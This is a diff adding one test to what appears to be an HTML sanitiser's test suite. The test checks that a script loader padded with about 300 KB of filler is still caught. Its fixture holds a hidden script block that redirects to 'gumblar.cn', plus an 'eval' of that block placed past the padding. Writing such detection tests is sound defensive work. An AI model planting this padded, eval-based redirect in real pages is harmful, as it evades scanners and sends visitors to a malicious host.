@@ -265,3 +265,10 @@ def test_a_handler_inside_a_kept_scripts_text_is_the_scripts_business() -> None:
     out, findings = strip(body)
     assert out is body
     assert [(f.element, f.reason) for f in findings] == [("script", "mention")]
+
+
+def test_a_loader_padded_past_the_analysis_bound_still_counts() -> None:
+    padding = "var a" + "=b+c;" * 60000  # 300 KB: not tokenized
+    block = "<script type=\"text/plain\" id=p>location='http://gumblar.cn/'</script>"
+    out, (f,) = strip(html(block + f"<script>{padding} eval(p.text)</script>"))
+    assert f.removed and f.evidence is not None and "eval" in f.evidence
